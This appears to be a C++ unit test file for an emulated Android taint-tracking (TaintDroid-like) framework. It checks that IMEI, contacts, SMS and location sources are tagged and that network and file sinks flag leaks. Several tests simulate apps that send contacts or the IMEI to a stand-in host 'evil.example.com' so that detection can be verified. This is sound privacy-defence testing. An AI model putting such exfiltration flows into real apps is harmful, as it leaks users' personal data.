#include <gtest/gtest.h>

#include <string>
#include <thread>
#include <vector>

#include "android/device.h"

namespace ndroid::taintdroid {
namespace {

using android::Device;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;
using dvm::Slot;

class FrameworkFixture : public ::testing::Test {
 protected:
  Device device_{"com.test.app"};
};

TEST_F(FrameworkFixture, SourcesReturnTaintedStrings) {
  Method* m = device_.framework.telephony->find_method("getDeviceId");
  ASSERT_NE(m, nullptr);
  const Slot r = device_.dvm.call(*m, {});
  EXPECT_EQ(r.taint, kTaintImei);
  dvm::Object* s = device_.dvm.heap().object_at(r.value);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->utf(), "354958031234567");
  EXPECT_EQ(device_.dvm.heap().object_taint(*s), kTaintImei);
}

TEST_F(FrameworkFixture, AllSourcesCarryDistinctTags) {
  struct Case {
    const dvm::ClassObject* cls;
    const char* method;
    Taint taint;
  };
  const Case cases[] = {
      {device_.framework.telephony, "getSubscriberId", kTaintImsi},
      {device_.framework.telephony, "getLine1Number", kTaintPhoneNumber},
      {device_.framework.telephony, "getSimSerialNumber", kTaintIccid},
      {device_.framework.sms_manager, "getAllMessages", kTaintSms},
      {device_.framework.contacts, "queryContacts", kTaintContacts},
  };
  for (const Case& c : cases) {
    Method* m = c.cls->find_method(c.method);
    ASSERT_NE(m, nullptr) << c.method;
    EXPECT_EQ(device_.dvm.call(*m, {}).taint, c.taint) << c.method;
  }
  Method* loc =
      device_.framework.location->find_method("getLastKnownLocation");
  EXPECT_NE(device_.dvm.call(*loc, {}).taint & kTaintLocationGps, 0u);
}

TEST_F(FrameworkFixture, NetworkSinkFlagsTaintedData) {
  // Java app: contacts = queryContacts(); NetworkOutput.send(host, contacts)
  auto& dvm = device_.dvm;
  Method* src = device_.framework.contacts->find_method("queryContacts");
  Method* sink = device_.framework.network->find_method("send");

  dvm::ClassObject* app = dvm.define_class("Lcom/test/App;");
  CodeBuilder cb;
  cb.const_string(0, "evil.example.com")
      .invoke(src, {})
      .move_result(1)
      .invoke(sink, {0, 1})
      .return_void();
  Method* main =
      dvm.define_method(app, "main", "V", kAccPublic | kAccStatic, 2,
                        cb.take());
  dvm.call(*main, {});

  // Real bytes left the device.
  EXPECT_EQ(device_.kernel.network().bytes_sent_to("evil.example.com"),
            "1|Vincent|cx@gg.com");
  // TaintDroid flagged the flow.
  ASSERT_EQ(device_.framework.leaks().size(), 1u);
  EXPECT_EQ(device_.framework.leaks()[0].taint, kTaintContacts);
  EXPECT_EQ(device_.framework.leaks()[0].sink, "OutputStream.write");
}

TEST_F(FrameworkFixture, UntaintedSendNotFlagged) {
  auto& dvm = device_.dvm;
  Method* sink = device_.framework.network->find_method("send");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App2;");
  CodeBuilder cb;
  cb.const_string(0, "ads.example.com")
      .const_string(1, "harmless")
      .invoke(sink, {0, 1})
      .return_void();
  Method* main = dvm.define_method(app, "main", "V",
                                   kAccPublic | kAccStatic, 2, cb.take());
  dvm.call(*main, {});
  EXPECT_EQ(device_.kernel.network().bytes_sent_to("ads.example.com"),
            "harmless");
  EXPECT_TRUE(device_.framework.leaks().empty());
}

TEST_F(FrameworkFixture, FileSinkFlagsTaintedData) {
  auto& dvm = device_.dvm;
  Method* src = device_.framework.telephony->find_method("getDeviceId");
  Method* sink = device_.framework.file_output->find_method("write");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App3;");
  CodeBuilder cb;
  cb.const_string(0, "/sdcard/ids.txt")
      .invoke(src, {})
      .move_result(1)
      .invoke(sink, {0, 1})
      .return_void();
  Method* main = dvm.define_method(app, "main", "V",
                                   kAccPublic | kAccStatic, 2, cb.take());
  dvm.call(*main, {});
  EXPECT_EQ(device_.kernel.vfs().content_str("/sdcard/ids.txt"),
            "354958031234567");
  ASSERT_EQ(device_.framework.leaks().size(), 1u);
  EXPECT_EQ(device_.framework.leaks()[0].taint, kTaintImei);
}

TEST_F(FrameworkFixture, ConcatPropagatesTaintUnion) {
  auto& dvm = device_.dvm;
  Method* imei = device_.framework.telephony->find_method("getDeviceId");
  Method* sms = device_.framework.sms_manager->find_method("getAllMessages");
  Method* concat = device_.framework.string_ops->find_method("concat");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App4;");
  CodeBuilder cb;
  cb.invoke(imei, {})
      .move_result(0)
      .invoke(sms, {})
      .move_result(1)
      .invoke(concat, {0, 1})
      .move_result(2)
      .return_value(2);
  Method* main = dvm.define_method(app, "main", "L",
                                   kAccPublic | kAccStatic, 3, cb.take());
  const Slot r = dvm.call(*main, {});
  EXPECT_EQ(r.taint, kTaintImei | kTaintSms);
}

TEST_F(FrameworkFixture, TaintDroidOffSuppressesDetectionButNotTraffic) {
  device_.dvm.policy().propagate_java = false;
  auto& dvm = device_.dvm;
  Method* src = device_.framework.contacts->find_method("queryContacts");
  Method* sink = device_.framework.network->find_method("send");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App5;");
  CodeBuilder cb;
  cb.const_string(0, "h.example")
      .invoke(src, {})
      .move_result(1)
      .invoke(sink, {0, 1})
      .return_void();
  Method* main = dvm.define_method(app, "main", "V",
                                   kAccPublic | kAccStatic, 2, cb.take());
  dvm.call(*main, {});
  EXPECT_FALSE(device_.kernel.network().bytes_sent_to("h.example").empty());
  EXPECT_TRUE(device_.framework.leaks().empty());
}

TEST_F(FrameworkFixture, DeviceVmiSeesAppAndLibraries) {
  // Load an app lib, then reconstruct the OS view from guest memory only.
  std::vector<u8> image(0x100, 0);
  device_.load_native_lib("libtccsync.so", image);
  os::ViewReconstructor recon(device_.memory, os::Kernel::kTaskRoot);
  const auto views = recon.reconstruct();
  const os::ProcessView* app = recon.find_process(views, "com.test.app");
  ASSERT_NE(app, nullptr);
  EXPECT_NE(app->find_module("libdvm.so"), nullptr);
  EXPECT_NE(app->find_module("libc.so"), nullptr);
  EXPECT_NE(app->find_module("libtccsync.so"), nullptr);
}

TEST_F(FrameworkFixture, LoadedLibsGetDistinctRanges) {
  std::vector<u8> image(0x2000, 0xAB);
  const GuestAddr a = device_.load_native_lib("liba.so", image);
  const GuestAddr b = device_.load_native_lib("libb.so", image);
  EXPECT_GE(b, a + 0x2000);
  EXPECT_EQ(device_.memory.read8(a), 0xAB);
  EXPECT_EQ(device_.memmap.module_of(a), "liba.so");
  EXPECT_EQ(device_.memmap.module_of(b), "libb.so");
}

// --- Boot classes: emitted once per process, shared by every Device -------

/// Calls NetworkOutput.send(host, data) on `device`.
void send(Device& device, const std::string& host, Slot data) {
  Method* sink = device.framework.network->find_method("send");
  dvm::Object* h = device.dvm.new_string(host);
  device.dvm.call(*sink, {Slot{h->addr(), kTaintClear}, data});
}

TEST(BootClasses, DevicesShareOneHostMethodPerBuiltin) {
  Device a("com.boot.a");
  Device b("com.boot.b");
  EXPECT_EQ(a.framework.network, b.framework.network);
  EXPECT_EQ(a.framework.network, Framework::image().classes.network);
  Method* send_a =
      a.dvm.find_class("Ljava/net/NetworkOutput;")->find_method("send");
  Method* send_b =
      b.dvm.find_class("Ljava/net/NetworkOutput;")->find_method("send");
  ASSERT_NE(send_a, nullptr);
  EXPECT_EQ(send_a, send_b);
  // jmethodID and jclass resolve to the shared objects on either Device.
  EXPECT_EQ(a.dvm.method_at(send_a->guest_addr), send_a);
  EXPECT_EQ(b.dvm.method_at(send_a->guest_addr), send_a);
  const GuestAddr mirror = a.dvm.class_mirror(a.framework.network);
  EXPECT_EQ(b.dvm.class_mirror(b.framework.network), mirror);
  EXPECT_EQ(b.dvm.class_at(mirror), b.framework.network);
  EXPECT_EQ(a.dvm.string_class(), b.dvm.string_class());
}

TEST(BootClasses, FreshDeviceLibdvmEqualsAnEmissionFromScratch) {
  // The per-Device path the image replaces: a bare Dvm and JniEnv, then
  // every framework class and builtin defined on that Dvm one by one.
  mem::AddressSpace memory;
  mem::MemoryMap memmap;
  arm::Cpu cpu(memory, memmap);
  os::Kernel kernel(memory, memmap);
  dvm::Dvm dvm(cpu, android::Layout::kDalvikHeap,
               android::Layout::kDalvikHeapSize, android::Layout::kDalvikStack,
               android::Layout::kDalvikStackSize);
  jni::JniEnv jni(dvm, kernel);
  const FrameworkClasses& shared = Framework::image().classes;
  for (const dvm::ClassObject* cls :
       {shared.telephony, shared.sms_manager, shared.contacts,
        shared.location, shared.network, shared.file_output,
        shared.string_ops}) {
    dvm::ClassObject* own = dvm.define_class(cls->descriptor());
    ASSERT_NE(own, cls);
    for (const auto& m : cls->methods()) {
      const Method* defined = dvm.define_builtin(own, m->name, m->shorty,
                                                 m->access_flags, m->builtin);
      EXPECT_EQ(defined->guest_addr, m->guest_addr) << m->name;
    }
  }

  Device device;
  std::vector<u8> expected(android::Layout::kLibdvmSize);
  std::vector<u8> actual(android::Layout::kLibdvmSize);
  memory.read_bytes(android::Layout::kLibdvm, expected);
  device.memory.read_bytes(android::Layout::kLibdvm, actual);
  EXPECT_EQ(actual, expected);
  // Loading the framework's layer copies only the pages it changed.
  const dvm::LibdvmImage& img = Framework::image().libdvm;
  EXPECT_EQ(img.extends, &jni::JniEnv::image().libdvm);
  EXPECT_LT(img.delta.size(), img.pages.addrs.size());
}

TEST(BootClasses, EachDeviceSourcesItsOwnIdentityAndKeepsItsOwnLeaks) {
  DeviceIdentity other;
  other.imei = "490154203237518";
  Device a("com.boot.a");
  Device b("com.boot.b", other);
  Method* get_id = a.framework.telephony->find_method("getDeviceId");
  const Slot imei_a = a.dvm.call(*get_id, {});
  const Slot imei_b = b.dvm.call(*get_id, {});
  EXPECT_EQ(a.dvm.heap().object_at(imei_a.value)->utf(), "354958031234567");
  EXPECT_EQ(b.dvm.heap().object_at(imei_b.value)->utf(), "490154203237518");

  send(b, "evil.example.com", imei_b);
  EXPECT_TRUE(a.framework.leaks().empty());
  ASSERT_EQ(b.framework.leaks().size(), 1u);
  EXPECT_EQ(b.framework.leaks()[0].data, "490154203237518");
  EXPECT_EQ(b.kernel.network().bytes_sent_to("evil.example.com"),
            "490154203237518");
  EXPECT_EQ(a.kernel.network().bytes_sent_to("evil.example.com"), "");

  send(a, "other.example.com", imei_a);
  ASSERT_EQ(a.framework.leaks().size(), 1u);
  EXPECT_EQ(a.framework.leaks()[0].data, "354958031234567");
  EXPECT_EQ(b.framework.leaks().size(), 1u);
}

TEST(BootClasses, ThrowNewWithAFrameworkClassStaysOnItsDevice) {
  Device a("com.boot.a");
  Device b("com.boot.b");
  const dvm::ClassObject* shared = a.framework.network;
  Method* shared_send = shared->find_method("send");
  const GuestAddr mirror = a.dvm.class_mirror(shared);

  // initException adds a `message` field to the class it instantiates.
  a.cpu.call_function(a.jni.fn("ThrowNew"),
                      {a.jni.env_addr(), mirror, a.dvm.data_cstr("boom")});
  ASSERT_NE(a.dvm.pending_exception, nullptr);

  // Device a now works on its own copy: same mirror, same Method structs.
  dvm::ClassObject* own = a.dvm.class_at(mirror);
  EXPECT_NE(own, shared);
  EXPECT_EQ(a.dvm.pending_exception->clazz(), own);
  EXPECT_NE(own->find_instance_field("message"), nullptr);
  EXPECT_EQ(a.dvm.class_mirror(own), mirror);
  EXPECT_EQ(a.dvm.class_mirror(shared), mirror);
  EXPECT_EQ(a.dvm.find_class("Ljava/net/NetworkOutput;"), own);
  Method* own_send = own->find_method("send");
  ASSERT_NE(own_send, nullptr);
  EXPECT_NE(own_send, shared_send);
  EXPECT_EQ(own_send->guest_addr, shared_send->guest_addr);
  EXPECT_EQ(a.dvm.method_at(shared_send->guest_addr), own_send);
  // The copy's builtin still sinks into Device a's Framework.
  send(a, "evil.example.com",
       Slot{a.dvm.new_string("secret")->addr(), kTaintImei});
  EXPECT_EQ(a.framework.leaks().size(), 1u);

  // The shared table and Device b never saw the field.
  EXPECT_EQ(shared->find_instance_field("message"), nullptr);
  EXPECT_EQ(Framework::image().classes.network, shared);
  EXPECT_EQ(b.dvm.class_at(mirror), shared);
  EXPECT_EQ(b.dvm.find_class("Ljava/net/NetworkOutput;"), shared);
  EXPECT_EQ(b.dvm.method_at(shared_send->guest_addr), shared_send);
  b.cpu.call_function(b.jni.fn("ThrowNew"),
                      {b.jni.env_addr(), mirror, b.dvm.data_cstr("boom")});
  EXPECT_NE(b.dvm.class_at(mirror), own);
  EXPECT_EQ(shared->find_instance_field("message"), nullptr);
  EXPECT_TRUE(b.framework.leaks().empty());
}

TEST(BootClasses, ConcurrentDevicesCallSourcesAndSinks) {
  // Four threads build Devices with their own IMEIs and run source ->
  // concat -> sink on them at once; each Device's leaks are its own.
  constexpr int kThreads = 4;
  constexpr int kDevices = 10;
  std::vector<int> failures(kThreads, 0);
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([t, &failures] {
      for (int d = 0; d < kDevices; ++d) {
        DeviceIdentity id;
        id.imei = "35495803123" + std::to_string(1000 + 10 * t + d);
        Device device("com.boot.race", id);
        Method* get_id = device.framework.telephony->find_method("getDeviceId");
        Method* concat = device.framework.string_ops->find_method("concat");
        const Slot imei = device.dvm.call(*get_id, {});
        dvm::Object* prefix = device.dvm.new_string("id=");
        const Slot joined =
            device.dvm.call(*concat, {Slot{prefix->addr(), kTaintClear}, imei});
        send(device, "evil.example.com", joined);
        const auto& leaks = device.framework.leaks();
        if (leaks.size() != 1 || leaks[0].data != "id=" + id.imei ||
            leaks[0].taint != kTaintImei) {
          ++failures[t];
        }
      }
    });
  }
  for (std::thread& th : threads) th.join();
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(failures[t], 0) << t;
}

}  // namespace
}  // namespace ndroid::taintdroid
